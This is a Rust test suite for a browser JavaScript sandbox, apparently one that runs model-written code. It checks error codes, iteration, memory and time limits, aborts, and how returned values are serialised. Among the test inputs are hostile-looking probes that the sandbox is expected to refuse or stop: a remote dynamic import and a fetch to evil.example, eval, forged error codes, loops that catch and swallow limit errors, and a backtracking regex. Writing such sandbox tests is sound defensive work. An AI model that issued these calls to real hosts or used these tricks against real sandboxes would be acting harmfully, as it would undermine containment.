//! How a run ends. Whatever the program does, the host has its answer, with a code and the author's own line.

use anyhow::Result;
use belljar_browsers::{Browser, Engine};
use serde_json::{Value, json};

use super::Jar;

/// A program, the policy it runs under, and what of its error is looked at.
const ENDINGS: &[(&str, &str, &str, &str)] = &[
    // --- errors of the program's own -------------------------------------------------------
    (
        "an error",
        "const a = 1;\nthrow new TypeError('no');",
        "{}",
        r#"{"code":"EXECUTION_ERROR","name":"TypeError","line":2,"column":7}"#,
    ),
    ("an error of an engine", "let x;\n\n  x.y.z", "{}", r#"{"code":"EXECUTION_ERROR","name":"TypeError","line":3}"#),
    (
        "deep inside",
        "function f(n) {\n  if (n === 0) throw new RangeError('deep');\n  f(n - 1);\n}\nf(3)",
        "{}",
        r#"{"code":"EXECUTION_ERROR","name":"RangeError","line":2}"#,
    ),
    ("a text", "throw 'just text'", "{}", r#"{"code":"EXECUTION_ERROR"}"#),
    ("nothing", "throw undefined", "{}", r#"{"code":"EXECUTION_ERROR"}"#),
    ("null", "throw null", "{}", r#"{"code":"EXECUTION_ERROR"}"#),
    ("an object", "throw { code: 'TIMEOUT', message: 'forged' }", "{}", r#"{"code":"EXECUTION_ERROR"}"#),
    (
        "an error with a code of ours",
        "throw Object.assign(new Error('x'), { code: 'TIMEOUT' })",
        "{}",
        r#"{"code":"EXECUTION_ERROR"}"#,
    ),
    (
        "an error whose fields throw",
        "throw new Proxy(new Error('x'), { get() { throw 1 } })",
        "{}",
        r#"{"code":"EXECUTION_ERROR"}"#,
    ),
    (
        "a rejected promise",
        "await Promise.reject(new SyntaxError('later'))",
        "{}",
        r#"{"code":"EXECUTION_ERROR","name":"SyntaxError"}"#,
    ),
    (
        "in a callback",
        "[1].map(() => {\n  throw new EvalError('inside')\n})",
        "{}",
        r#"{"code":"EXECUTION_ERROR","name":"EvalError","line":2}"#,
    ),
    // --- programs that are refused ---------------------------------------------------------
    ("no JavaScript", "const = 1", "{}", r#"{"code":"SYNTAX_ERROR","line":1,"column":7}"#),
    ("an import", "import fs from 'fs';", "{}", r#"{"code":"GUARD_REFUSED","line":1}"#),
    ("a dynamic import", "await import('https://evil.example/x.js')", "{}", r#"{"code":"GUARD_REFUSED"}"#),
    ("eval", "\neval('1')", "{}", r#"{"code":"GUARD_REFUSED","line":2}"#),
    ("a removed global", "fetch('https://evil.example')", "{}", r#"{"code":"GUARD_REFUSED"}"#),
    // --- limits ----------------------------------------------------------------------------
    ("turns", "for (;;);", r#"{"limits":{"iterations":1000}}"#, r#"{"code":"ITERATION_LIMIT"}"#),
    (
        "turns in a generator",
        "function* g() { for (;;) yield 1 }\nfor (const x of g());",
        r#"{"limits":{"iterations":1000}}"#,
        r#"{"code":"ITERATION_LIMIT"}"#,
    ),
    (
        "calls",
        "const f = () => f(f());\ntry { f() } catch {}\nfor (;;) { try { f() } catch {} }",
        r#"{"limits":{"iterations":5000}}"#,
        r#"{"code":"ITERATION_LIMIT"}"#,
    ),
    (
        "caught away",
        "for (;;) { try { for (;;); } catch {} finally { continue } }",
        r#"{"limits":{"iterations":1000}}"#,
        r#"{"code":"ITERATION_LIMIT"}"#,
    ),
    (
        "caught away while waiting",
        "for (;;) { try { await (async () => { for (;;); })() } catch {} }",
        r#"{"limits":{"iterations":1000}}"#,
        r#"{"code":"ITERATION_LIMIT"}"#,
    ),
    (
        "caught away in promises",
        "const f = () => Promise.resolve().then(() => { for (;;); }).catch(f);\nawait f()",
        r#"{"limits":{"iterations":1000}}"#,
        r#"{"code":"ITERATION_LIMIT"}"#,
    ),
    ("memory", "'x'.repeat(1e9)", r#"{"limits":{"memoryBytes":1000000}}"#, r#"{"code":"MEMORY_LIMIT"}"#),
    (
        "memory by growth", "let s = 'x'.repeat(1000); for (;;) s += s", r#"{"limits":{"memoryBytes":1000000}}"#,
        r#"{"code":"MEMORY_LIMIT"}"#,
    ),
    ("the stack", "const f = () => 1 + f(); f()", "{}", r#"{"code":"STACK_OVERFLOW"}"#),
    ("the value", "return 'x'.repeat(5000)", r#"{"limits":{"outputBytes":1000}}"#, r#"{"code":"OUTPUT_TOO_LARGE"}"#),
    (
        "tool calls",
        "for (let i = 0; i < 5; i++) await callTool('t', {})",
        r#"{"limits":{"toolCalls":2}}"#,
        r#"{"code":"TOOL_CALL_LIMIT"}"#,
    ),
    // --- time ------------------------------------------------------------------------------
    (
        "time in a loop",
        "for (;;);",
        r#"{"limits":{"timeoutMs":200,"iterations":1000000000000}}"#,
        r#"{"code":"TIMEOUT"}"#,
    ),
    (
        "time, caught away",
        "for (;;) { try { for (;;); } catch {} }",
        r#"{"limits":{"timeoutMs":200,"iterations":1000000000000}}"#,
        r#"{"code":"TIMEOUT"}"#,
    ),
    (
        "time while a tool works", "await callTool('never', {})", r#"{"limits":{"timeoutMs":200}}"#,
        r#"{"code":"TIMEOUT"}"#,
    ),
    (
        "time in one native operation", "/^(a+)+$/.test('a'.repeat(40) + 'b')", r#"{"limits":{"timeoutMs":200}}"#,
        r#"{"code":"TIMEOUT"}"#,
    ),
    (
        "nothing left to wait for", "await new Promise(() => {})", r#"{"limits":{"timeoutMs":20000}}"#,
        r#"{"code":"EXECUTION_ERROR"}"#,
    ),
];

pub(crate) fn every_end_has_its_code(browser: &Browser) -> Result<()> {
    let jar = Jar::open(browser)?;
    let cases: Vec<Value> = ENDINGS
        .iter()
        .map(|(name, code, policy, _)| {
            json!({ "name": name, "code": code, "policy": serde_json::from_str::<Value>(policy).unwrap() })
        })
        .collect();
    let ends: Vec<Value> = jar.page(
        browser,
        "const tools = { t: () => 1, never: () => new Promise(() => {}) };
         const ends = [];
         for (const { code, policy } of args) {
             const r = await jar.run(code, { policy, tools });
             ends.push(r.ok ? { value: String(r.value) } : { ...r.error, killed: r.stats.killed });
         }
         return ends",
        cases,
    )?;
    let mut wrong = Vec::new();
    for ((name, _, _, expected), end) in ENDINGS.iter().zip(&ends) {
        let expected: Value = serde_json::from_str(expected)?;
        // WebKit counts columns from other places in a statement than the others do.
        let looked_at = |key: &str| key != "column" || end["column"].is_null() || browser.engine() != Engine::WebKit;
        let fits = expected.as_object().unwrap().iter().all(|(key, value)| &end[key] == value || !looked_at(key));
        // WebKit gives up a backtracking expression by itself.
        let gives_up = *name == "time in one native operation" && end["value"] == "false";
        if !fits && !gives_up {
            wrong.push(format!("{name}: expected {expected}, got {end}"));
        }
        let told = end["forModel"].as_str().unwrap_or_default();
        if end.get("value").is_none() && (!told.starts_with("The program ") || told.len() > 3_000) {
            wrong.push(format!("{name}: the model is told {told:?}"));
        }
        let stack = end["stack"].as_str().unwrap_or_default();
        if ["blob:", "data:", "http", "__"].iter().any(|inside| stack.contains(inside)) {
            wrong.push(format!("{name}: the stack shows what is not the author's: {stack}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    Ok(())
}

/// What a program hands back, and what the host has then. `!` is an error that names the place.
const VALUES: &[(&str, &str)] = &[
    ("return undefined", "undefined"),
    ("// nothing", "undefined"),
    ("", "!there is no program"),
    ("return null", "null"),
    ("1 + 1", "2"),
    ("'text'", "\"text\""),
    ("return -0", "-0"),
    ("return NaN", "NaN"),
    ("return [1, , 3]", "[1,,3]"),
    ("return 12345678901234567890n", "12345678901234567890n"),
    ("return new Date(0)", "Date 0"),
    ("return new Map([[1, { a: 2 }]])", "Map [[1,{\"a\":2}]]"),
    ("return new Set(['x'])", "Set [\"x\"]"),
    ("return { a: undefined, b: 1 }", "{\"b\":1}+a"),
    ("const a = {}; a.self = a; return a", "cycle"),
    ("return new Uint8Array([1, 2])", "Uint8Array 1,2"),
    ("return class A {}", "!value"),
    ("return { f() {} }", "!value.f"),
    ("return [Symbol('x')]", "!value[0]"),
];

pub(crate) fn values_arrive_as_documented(browser: &Browser) -> Result<()> {
    let jar = Jar::open(browser)?;
    let programs: Vec<&str> = VALUES.iter().map(|(program, _)| *program).collect();
    let seen: Vec<String> = jar.page(
        browser,
        "const show = (value) => {
             if (value === undefined || Object.is(value, -0) || value !== value) return Object.is(value, -0) ? '-0' : String(value);
             if (typeof value === 'bigint') return value + 'n';
             // Not `instanceof`: a driver may run this in a realm beside the page's.
             const kind = Object.prototype.toString.call(value).slice(8, -1);
             if (kind === 'Date') return 'Date ' + value.getTime();
             if (kind === 'Map' || kind === 'Set') return kind + ' ' + JSON.stringify([...value]);
             if (kind === 'Uint8Array') return 'Uint8Array ' + value;
             if (value && value.self === value) return 'cycle';
             if (Array.isArray(value) && !(1 in value) && value.length === 3) return '[1,,3]';
             const more = value && typeof value === 'object' && 'a' in value && value.a === undefined ? '+a' : '';
             return JSON.stringify(value) + more;
         };
         const seen = [];
         for (const program of args) {
             const r = await jar.run(program);
             seen.push(r.ok ? show(r.value) : '!' + r.error.message);
         }
         return seen",
        json!(programs),
    )?;
    let mut wrong = Vec::new();
    for ((program, expected), seen) in VALUES.iter().zip(&seen) {
        let fits = match expected.strip_prefix('!') {
            Some(place) => seen.starts_with('!') && seen.contains(place),
            None => seen == expected,
        };
        if !fits {
            wrong.push(format!("{program}: expected {expected}, got {seen}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    Ok(())
}

/// The host can stop a run at any moment, a jar can be closed under it, and a run that never starts can be stopped too.
pub(crate) fn the_host_can_stop_it(browser: &Browser) -> Result<()> {
    let jar = Jar::open(browser)?;
    let seen: Value = jar.page(
        browser,
        "const spin = 'for (;;);', policy = { limits: { iterations: 1e12 } };
         const stopped = async (code, ms) => {
             const controller = new AbortController();
             const stop = () => controller.abort(new Error('enough'));
             const wait = (_, { signal }) => new Promise((resolve) => {
                 signal.addEventListener('abort', () => { globalThis.told = signal.reason.name; resolve() });
                 setTimeout(stop, ms);
             });
             const onEvent = ({ type }) => type === 'ready' && code === spin && setTimeout(stop, ms);
             const run = jar.run(code, { policy, signal: controller.signal, tools: { wait }, onEvent });
             const { ok, error, stats } = await run;
             return { ok, code: error.code, killed: stats.killed };
         };
         const seen = { spinning: await stopped(spin, 100), waiting: await stopped(\"await callTool('wait', {})\", 100) };
         seen.told = globalThis.told;
         seen.before = await jar.run('return 1', { signal: AbortSignal.abort() }).then((r) => r.error.code);
         const other = await Belljar.connect({ server, policy: { level: 'strict' } });
         const open = other.run(spin, { policy });
         await new Promise((resolve) => setTimeout(resolve, 200));
         await other.close();
         seen.closed = (await open.catch((error) => ({ error }))).error.code;
         seen.after = await other.run('return 1').catch((error) => error.code);
         seen.still = (await jar.run('return 7')).value;
         return seen",
        json!({}),
    )?;
    let expected = json!({
        "spinning": { "ok": false, "code": "ABORTED", "killed": true },
        "waiting": { "ok": false, "code": "ABORTED", "killed": true },
        "told": "AbortError",
        "before": "ABORTED",
        "closed": "ABORTED",
        "after": "ABORTED",
        "still": 7,
    });
    assert_eq!(seen, expected, "{seen:#}");
    Ok(())
}

/// A worker that is stuck in one native operation is taken away, with its document where that is faster; runs beside it
/// finish, and the next ones start.
pub(crate) fn a_stuck_worker_hurts_nobody(browser: &Browser) -> Result<()> {
    let jar = Jar::open(browser)?;
    let seen: Value = jar.page(
        browser,
        "const stuck = () => jar.run(\"/^(a+)+$/.test('a'.repeat(60) + 'b'); for (;;);\", { policy: { limits: { timeoutMs: 300, iterations: 1e12 } } });
         const beside = jar.run(\"await callTool('slow', {}); return 'beside'\", { tools: { slow: () => new Promise((resolve) => setTimeout(resolve, 1500)) } });
         const first = await stuck();
         const next = await jar.run('return 1 + 1');
         const second = await stuck();
         const after = await jar.run('return 3');
         return [first.error.code, next.value, second.error.code, after.value, (await beside).value]",
        json!({}),
    )?;
    assert_eq!(seen, json!(["TIMEOUT", 2, "TIMEOUT", 3, "beside"]));
    Ok(())
}

/// A frame that is taken away ends the runs in it, also one that waits for a tool, and the handler is told.
pub(crate) fn a_lost_frame_ends_its_runs(browser: &Browser) -> Result<()> {
    let jar = Jar::open(browser)?;
    let seen: Value = jar.page(
        browser,
        "let told = false;
         const wait = (_, { signal }) => new Promise(() => {
             signal.addEventListener('abort', () => { told = true });
             document.querySelector('iframe').remove();
         });
         const r = await jar.run(\"await callTool('wait', {})\", { tools: { wait } });
         const again = await Belljar.connect({ server });
         return [r.ok, r.error.code, told, (await again.run('return 4')).value]",
        json!({}),
    )?;
    assert_eq!(seen, json!([false, "SANDBOX_LOST", true, 4]));
    Ok(())
}
